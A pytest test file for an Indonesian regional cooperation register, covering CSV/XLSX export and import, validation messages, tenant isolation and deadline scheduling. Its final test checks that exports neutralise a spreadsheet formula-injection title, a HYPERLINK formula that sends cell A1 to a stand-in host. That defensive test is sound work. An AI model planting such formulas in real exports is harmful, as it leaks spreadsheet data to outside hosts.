"""The register leaves as CSV/XLSX with the page's filters and comes back in through the import:
a Kota's register exported and imported into another daerah recreates the same cooperation at
the same stage; importing it again adds none; bad rows are named with their reason and nothing
of them is written."""

from __future__ import annotations

import csv
import io
import time
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from sikd.testing.web import csrf, new_coop, text

HEADERS = [
    "Judul Kerja Sama",
    "Jenis",
    "Mitra",
    "Negara Mitra",
    "Objek",
    "Kode Tahapan",
    "Tanggal Mulai",
    "Tanggal Berakhir",
]


def run_jobs(app):
    from rq import SimpleWorker

    from sikd.core.jobs import get_queue, get_redis

    with app.app_context():
        SimpleWorker([get_queue("default")], connection=get_redis()).work(burst=True)


def xlsx_bytes(headers, rows) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(headers)
    for r in rows:
        sheet.append(r)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def upload(client, content: bytes, name: str = "kerja-sama-lama.xlsx"):
    page = client.get("/kerja-sama/impor")
    assert page.status_code == 200
    return client.post(
        "/kerja-sama/impor",
        data={"csrf_token": csrf(text(page)), "berkas": (io.BytesIO(content), name)},
        content_type="multipart/form-data",
    )


def run_import(app, client, content: bytes):
    """Upload, keep the proposed mapping, start, let the worker run; the progress page."""
    posted = upload(client, content)
    assert posted.status_code == 302, text(posted)
    mapping_url = posted.headers["Location"]
    page = client.get(mapping_url)
    form = {"csrf_token": csrf(text(page)), "langkah": "impor"}
    for field, header in _selected(text(page)).items():
        form[f"kolom_{field}"] = header
    started = client.post(mapping_url, data=form)
    assert started.status_code == 302
    run_jobs(app)
    return client.get(started.headers["Location"] + "?format=json").get_json(), text(page)


def _selected(page: str) -> dict[str, str]:
    import re

    out = {}
    for field, body in re.findall(r'name="kolom_(\w+)">(.*?)</select>', page, re.S):
        chosen = re.search(r'<option value="([^"]*)" selected>', body)
        if chosen:
            out[field] = chosen.group(1)
    return out


def coops_of(app, code: str) -> list[tuple]:
    from sikd.cooperations.models import Cooperation
    from sikd.core.extensions import db
    from sikd.tenancy.models import Tenant
    from sikd.tenancy.scope import system_scope

    with app.app_context(), system_scope():
        tid = db.session.scalar(select(Tenant.id).where(Tenant.code == code))
        rows = db.session.execute(
            select(
                Cooperation.title,
                Cooperation.partner_name,
                Cooperation.partner_country,
                Cooperation.type,
                Cooperation.subtype,
                Cooperation.stage,
                Cooperation.status,
                Cooperation.term_start,
                Cooperation.term_end,
            ).where(Cooperation.tenant_id == tid)
        ).all()
    return sorted(tuple(r) for r in rows)


def importable(app, code: str) -> set[tuple]:
    """The cooperation of ``code`` an import can recreate: those at a stage the daerah itself
    holds, or ended (one held by the provinsi or a ministry is refused by the import)."""
    from sikd.rules import effective_rulebook
    from sikd.workflow.rulebook import Rulebook

    rules = Rulebook(effective_rulebook(code).data)
    with app.app_context():
        procs = {(t[3], t[4]): rules.process_for(t[3], t[4]) for t in coops_of(app, code)}
    return {
        t
        for t in coops_of(app, code)
        if rules.is_terminal(procs[(t[3], t[4])], t[5])
        or rules.level_of(procs[(t[3], t[4])], t[5]) == "own"
    }


def test_bekasi_register_round_trips_through_xlsx_into_a_fresh_daerah(
    app, web, api, cooperation_at
):
    cooperation_at("pelaksanaan", tenant="32.75")
    new_coop(api)
    bekasi = web("32.75", ["tkksd"])
    exported = bekasi.get("/kerja-sama/ekspor.xlsx")
    assert exported.status_code == 200
    assert exported.headers["Content-Disposition"].startswith("attachment;")
    sheet = load_workbook(io.BytesIO(exported.data)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:3] == ("Nomor", "Judul Kerja Sama", "Jenis")  # Indonesian headers
    signed = next(n for n, r in enumerate(rows[1:], start=2) if r[8] == "pelaksanaan")
    assert sheet.cell(row=signed, column=12).number_format == "DD/MM/YYYY"
    assert rows[signed - 1][11] is not None

    bandung = web("32.73", ["tkksd"])
    progress, _ = run_import(app, bandung, exported.data)
    expected = importable(app, "32.75")
    assert {t[5] for t in expected} >= {"pelaksanaan", "prakarsa"}
    assert progress["status"] == "selesai" and progress["done"] == len(rows) - 1
    # same title, partner, country, type, subtype, stage, status, term
    assert set(coops_of(app, "32.73")) == expected
    assert progress["created"] == len(expected)

    again, _ = run_import(app, bandung, exported.data)
    assert again["created"] == 0 and again["skipped"] == progress["created"] + progress["skipped"]
    assert set(coops_of(app, "32.73")) == expected and len(coops_of(app, "32.73")) == len(expected)


def test_imported_cooperation_history_says_imported(app, web):
    from sikd.cooperations.models import Cooperation, StageEvent
    from sikd.core.extensions import db
    from sikd.tenancy.scope import system_scope

    client = web("32.71", ["tkksd"])
    content = xlsx_bytes(
        HEADERS,
        [
            [
                "Kota kembar Kota Bandung – Braunschweig",
                "KSDPL",
                "Kota Braunschweig",
                "DE",
                "pertukaran_budaya",
                "pelaksanaan",
                "01/03/2020",
                "28/02/2030",
            ]
        ],
    )
    progress, _ = run_import(app, client, content)
    assert progress["created"] == 1
    with app.app_context(), system_scope():
        coop = db.session.scalar(
            select(Cooperation).where(Cooperation.partner_name == "Kota Braunschweig")
        )
        events = db.session.scalars(
            select(StageEvent).where(StageEvent.cooperation_id == coop.id)
        ).all()
        assert (coop.stage, coop.term_start, coop.term_end) == (
            "pelaksanaan",
            date(2020, 3, 1),
            date(2030, 2, 28),
        )
        assert [e.kind for e in events] == ["import"]
        assert "baris 2" in events[0].basis
        cid = coop.id
    detail = text(client.get(f"/kerja-sama/{cid}"))
    assert "Diimpor dari berkas kerja sama lama" in detail


def test_export_csv_keeps_the_page_filters(app, web, api):
    new_coop(api)
    client = web("32.75", ["tkksd"])
    all_rows = list(
        csv.reader(io.StringIO(client.get("/kerja-sama/ekspor.csv").data.decode("utf-8-sig")))
    )
    none = list(
        csv.reader(
            io.StringIO(
                client.get("/kerja-sama/ekspor.csv?type=KSDPK&q=zzzz").data.decode("utf-8-sig")
            )
        )
    )
    assert all_rows[0][0] == "Nomor" and len(all_rows) >= 2
    assert none == [all_rows[0]]
    # another daerah's export holds none of Bekasi's cooperation
    other = list(
        csv.reader(
            io.StringIO(
                web("33.72", ["tkksd"]).get("/kerja-sama/ekspor.csv").data.decode("utf-8-sig")
            )
        )
    )
    assert not any("32.75" in r[0] for r in other[1:])


def test_bad_rows_named_with_reason_and_nothing_written(app, web):
    client = web("32.72", ["tkksd"])
    rows = [
        ["Beasiswa Kota Bandung", "KSDPK", "Universitas Contoh", "", "", "", "", ""],
        ["", "KSDPK", "Tanpa Judul", "", "", "", "", ""],
        ["Jenis salah", "XYZ", "Mitra", "", "", "", "", ""],
        ["Tanggal salah", "KSDPK", "Mitra", "", "", "pelaksanaan", "besok", "31/12/2027"],
        ["Pelaksanaan tanpa jangka waktu", "KSDPK", "Mitra B", "", "", "pelaksanaan", "", ""],
        ["Negara Indonesia", "KSDPL", "Kota X", "ID", "iptek", "", "", ""],
    ]
    content = xlsx_bytes(HEADERS, rows)
    posted = upload(client, content)
    preview = text(client.get(posted.headers["Location"]))
    assert "<strong>1</strong> baris siap diimpor" in preview
    for line, reason in [
        (3, "Kolom Judul Kerja Sama kosong"),
        (4, "Jenis &#39;XYZ&#39; tidak dikenal"),
        (5, "bukan tanggal"),
        (6, "perlu Tanggal Mulai dan Tanggal Berakhir"),
        (7, "tidak boleh berasal dari Indonesia"),
    ]:
        assert f"<tr><td>{line}</td><td>" in preview and reason in preview, (line, reason)
    progress, _ = run_import(app, client, content)
    assert (progress["created"], progress["failed"]) == (1, 5)
    assert [t[0] for t in coops_of(app, "32.72")] == ["Beasiswa Kota Bandung"]


def test_another_daerah_cannot_see_or_run_an_import(app, web):
    owner = web("32.74", ["tkksd"])
    posted = upload(owner, xlsx_bytes(HEADERS, [["A", "KSDPK", "B", "", "", "", "", ""]]))
    url = posted.headers["Location"]
    stranger = web("33.72", ["tkksd"])
    assert stranger.get(url).status_code == 404
    assert stranger.get(url + "/kemajuan?format=json").status_code == 404
    opd = web("32.74", ["opd"])
    assert opd.get("/kerja-sama/impor").status_code == 403


@pytest.mark.slow
def test_five_thousand_rows_with_fifty_bad(app, web):
    client = web("32.76", ["tkksd"])
    rows = []
    for n in range(5000):
        if n % 100 == 7:
            rows.append([f"Kerja sama uji {n}", "KSDPK", "", "", "", "", "", ""])  # no partner
        else:
            rows.append(
                [
                    f"Kerja sama uji {n}",
                    "KSDPK",
                    f"PT Mitra {n}",
                    "",
                    "",
                    "pelaksanaan",
                    date(2024, 1, 1),
                    date(2027, 12, 31),
                ]
            )
    content = xlsx_bytes(HEADERS, rows)
    posted = upload(client, content)
    preview = text(client.get(posted.headers["Location"]))
    assert "<strong>4950</strong> baris siap diimpor" in preview
    bad_lines = [n + 2 for n in range(5000) if n % 100 == 7]
    assert all(
        f"<tr><td>{line}</td><td>Kolom Mitra kosong.</td></tr>" in preview for line in bad_lines
    )
    started = time.perf_counter()
    progress, _ = run_import(app, client, content)
    elapsed = time.perf_counter() - started
    print(f"\nimport of 5,000 rows (50 bad): {elapsed:.1f} s")
    assert progress == {**progress, "done": 5000, "created": 4950, "failed": 50, "percent": 100}
    from sikd.cooperations.models import Cooperation
    from sikd.core.extensions import db
    from sikd.tenancy.scope import system_scope

    with app.app_context(), system_scope():
        count = db.session.scalar(
            select(func.count())
            .select_from(Cooperation)
            .where(Cooperation.title.like("Kerja sama uji %"))
        )
    assert count == 4950


def _armed(coop_id: int) -> dict:
    """Open rows of one cooperation: ``{jadwal or stage: [(local due date, period, row)]}``."""
    from zoneinfo import ZoneInfo

    from sikd.core.extensions import db
    from sikd.deadlines.models import Deadline
    from sikd.tenancy.scope import system_scope

    out: dict = {}
    with system_scope():
        rows = db.session.scalars(
            select(Deadline)
            .where(Deadline.cooperation_id == coop_id, Deadline.status.in_(["open", "late"]))
            .order_by(Deadline.due_at)
        ).all()
        for r in rows:
            local = r.due_at.astimezone(ZoneInfo("Asia/Jakarta")).date()
            out.setdefault(r.jadwal or r.stage, []).append((local, r.period, r))
    return out


def test_imported_running_cooperation_is_armed_as_signing_would_arm_it(app, web, cooperation_at):
    """PERWAL57 Pasal 78(1), 78(3), 80(2), 85(2)-(3), 87(1); PMDN23 Pasal 10 huruf d: an
    imported cooperation at pelaksanaan gets the term end, the extension notice, the annual
    report, the partner's report and the first pemantauan from its real dates, as a signed one
    does (Kota Bekasi's shipped rulebook: the 6-month rhythm and the partner's report are its
    Perwal's). A due date already past is taken by the next sweep:
    the partner's report of July is late and its next period armed, the pemantauan opens now."""
    from datetime import UTC, datetime, timedelta

    from sikd.cooperations.models import Cooperation
    from sikd.cooperations.rounds import MonitoringRound
    from sikd.cooperations.sweep import sweep_deadlines
    from sikd.core.clock import FixedClock
    from sikd.core.extensions import db
    from sikd.tenancy.scope import system_scope

    now = datetime(2026, 12, 7, 3, 0, tzinfo=UTC)  # 10.00 WIB
    previous = app.extensions.get("sikd_clock")
    app.extensions["sikd_clock"] = FixedClock(now)
    try:
        signed = cooperation_at("pelaksanaan", tenant="32.75", type="KSDPL")
        client = web("32.75", ["tkksd"])  # the same rulebook as the signed reference
        row = [
            "Kota kembar Bekasi – Kota Contoh",
            "KSDPL",
            "Kota Contoh",
            "JP",
            "pertukaran_budaya",
        ]
        content = xlsx_bytes(HEADERS, [[*row, "pelaksanaan", "15/01/2026", "14/01/2031"]])
        progress, _ = run_import(app, client, content)
        assert progress["created"] == 1, progress
        with app.app_context(), system_scope():
            coop = db.session.scalar(
                select(Cooperation).where(Cooperation.partner_name == "Kota Contoh")
            )
            cid = coop.id
            imported, reference = _armed(cid), _armed(signed.id)
            assert set(imported) == set(reference)
            assert set(imported) >= {
                "pelaksanaan",
                "akhir_jangka_waktu",
                "permohonan_perpanjangan",
                "laporan_tahunan",
                "laporan_mitra",
                "pemantauan",
            }
            due = {k: [(d, p) for d, p, _ in v] for k, v in imported.items()}
            assert due["akhir_jangka_waktu"] == [(date(2031, 1, 14), "2031-01-14")]
            assert due["permohonan_perpanjangan"] == [(date(2030, 7, 14), "2031-01-14")]
            assert due["laporan_tahunan"] == [(date(2027, 1, 7), "2026")]
            assert due["laporan_mitra"] == [(date(2026, 7, 15), "2026-07-15")]  # past: kept
            assert [d for d, _ in due["pelaksanaan"]] == [date(2031, 1, 14)]
            assert imported["pemantauan"][0][2].due_at == now  # past: due at once
            assert coop.next_due_at == imported["pelaksanaan"][0][2].due_at

        swept = sweep_deadlines(now + timedelta(hours=1))
        assert swept.late >= 1
        with app.app_context(), system_scope():
            after = _armed(cid)
            mitra = [(d, r.status) for d, _, r in after["laporan_mitra"]]
            assert mitra == [(date(2026, 7, 15), "late"), (date(2027, 1, 15), "open")]
            rnd = db.session.scalar(
                select(MonitoringRound).where(MonitoringRound.cooperation_id == cid)
            )
            assert (rnd.kind, rnd.scheduled_on, rnd.due_on) == (
                "pemantauan",
                date(2026, 12, 7),
                date(2027, 1, 7),
            )
            flags = db.session.get(Cooperation, cid).flags
            assert "terlambat_laporan_mitra" in flags
    finally:
        if previous is None:
            app.extensions.pop("sikd_clock", None)
        else:
            app.extensions["sikd_clock"] = previous


def test_exported_text_never_runs_as_a_formula(app, web, api):
    """A title typed as a formula (by anyone who can create a cooperation) is text in the CSV
    (a leading apostrophe) and a text cell in the XLSX, never a formula someone else's
    spreadsheet would run."""
    from sikd.testing.journeys import SISTER_CITY

    title = '=HYPERLINK("http://contoh.invalid/?"&A1,"Klik")'
    created = api("32.75", "opd").post("/api/v1/cooperations", json={**SISTER_CITY, "title": title})
    assert created.status_code == 201, created.get_json()
    client = web("32.75", ["tkksd"])
    rows = list(
        csv.reader(io.StringIO(client.get("/kerja-sama/ekspor.csv").data.decode("utf-8-sig")))
    )
    cells = [c for r in rows for c in r]
    assert "'" + title in cells and title not in cells
    book = load_workbook(io.BytesIO(client.get("/kerja-sama/ekspor.xlsx").data))
    typed = [c for row in book.active.iter_rows() for c in row if c.value == title]
    assert typed and all(c.data_type == "s" for c in typed)
